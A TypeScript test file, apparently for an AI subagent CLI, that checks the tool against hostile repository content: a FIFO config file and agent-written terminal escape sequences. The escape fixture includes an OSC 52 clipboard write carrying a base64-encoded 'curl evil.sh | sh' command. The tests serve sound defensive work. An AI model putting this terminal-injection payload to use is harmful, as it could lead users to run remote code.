import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { worktreesCommand } from '../../../src/cli/commands/worktrees';
import { runCliProcess } from '../../support/cliProcess';
import { startScriptedServer, type ScriptedServer } from '../../support/scriptedServer';

/** What a hostile repository's files can do to the CLI: nothing that hangs it or takes over the terminal. */

let server: ScriptedServer;
const roots: string[] = [];

before(async () => {
  server = await startScriptedServer();
});

after(async () => {
  await server.close();
  for (const root of roots) await rm(root, { recursive: true, force: true });
});

async function tempRoot(): Promise<string> {
  const root = await mkdtemp(path.join(os.tmpdir(), 'subagents-hostile-'));
  roots.push(root);
  return root;
}

test('a FIFO as .subagents/settings.json is reported at once by name, not waited on', async () => {
  const root = await tempRoot();
  const project = path.join(root, 'project');
  await mkdir(path.join(project, '.subagents'), { recursive: true });
  execFileSync('mkfifo', [path.join(project, '.subagents', 'settings.json')]);
  const env = { HOME: root, XDG_CONFIG_HOME: path.join(root, 'config'), XDG_CACHE_HOME: path.join(root, 'cache'), XDG_DATA_HOME: path.join(root, 'data'), ANTHROPIC_API_KEY: 'k', ANTHROPIC_BASE_URL: server.url };
  for (const args of [['agents', '--cwd', project], ['run', 'x', 'go', '--cwd', project]]) {
    const started = Date.now();
    const r = await runCliProcess(args, { env, timeoutMs: 15_000 });
    assert.equal(r.signal, null, `${args[0]} did not hang`);
    assert.equal(r.code, 2, r.stderr);
    assert.match(r.stderr, /\.subagents\/settings\.json: is not a regular file \(a FIFO\); make it a JSON file or remove it\. Nothing was run\./);
    assert.ok(Date.now() - started < 10_000);
  }
});

test('worktrees diff shows an agent-written control sequence as symbols on a terminal, and byte for byte when redirected', async () => {
  const root = await tempRoot();
  const repo = path.join(root, 'repo');
  await mkdir(path.join(repo, '.claude', 'agents'), { recursive: true });
  const git = (...args: string[]) => execFileSync('git', args, { cwd: repo, encoding: 'utf8' });
  git('init', '-q');
  await writeFile(path.join(repo, '.claude', 'agents', 'writer.md'), '---\nname: writer\ndescription: Writes\ntools: Write\n---\nYou write.\n');
  git('add', '.');
  git('-c', 'user.name=t', '-c', 'user.email=t@t', 'commit', '-q', '-m', 'start');
  // Erase the line, then write the clipboard (OSC 52).
  const hostile = 'fine\n\u001b[2K\u001b[1A\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007looks harmless\n';
  server.setScript((req) => (req.turn === 0 ? { toolUses: [{ name: 'Write', input: { file_path: 'notes.txt', content: hostile } }] } : { text: 'written' }));
  const env = { HOME: root, XDG_CONFIG_HOME: path.join(root, 'config'), XDG_CACHE_HOME: path.join(root, 'cache'), XDG_DATA_HOME: path.join(root, 'data'), ANTHROPIC_API_KEY: 'k', ANTHROPIC_BASE_URL: server.url };
  const r = await runCliProcess(['run', 'writer', 'go', '--json', '--isolation', 'worktree', '--permission-mode', 'acceptEdits', '--cwd', repo], { env });
  assert.equal(r.code, 0, r.stderr);
  const agentId = (JSON.parse(r.stdout.trim().split('\n').at(-1)!) as { agentId: string }).agentId;

  const diffOn = async (isTTY: boolean) => {
    let out = '';
    const io = { stdout: { isTTY, write: (t: string) => (out += t) }, stderr: { write: () => true }, env, cwd: repo, signal: new AbortController().signal };
    assert.equal(await worktreesCommand.run(['diff', agentId], io), 0);
    return out;
  };
  const shown = await diffOn(true);
  assert.doesNotMatch(shown, /[\u001b\u0007]/, 'no control character reaches the terminal');
  assert.match(shown, /\+␛\[2K␛\[1A␛\]52;c;Y3VybCBldmlsLnNoIHwgc2g=␇looks harmless/);
  const redirected = await diffOn(false);
  assert.ok(redirected.includes('\u001b]52;c;'), 'a redirected patch keeps its bytes');
});
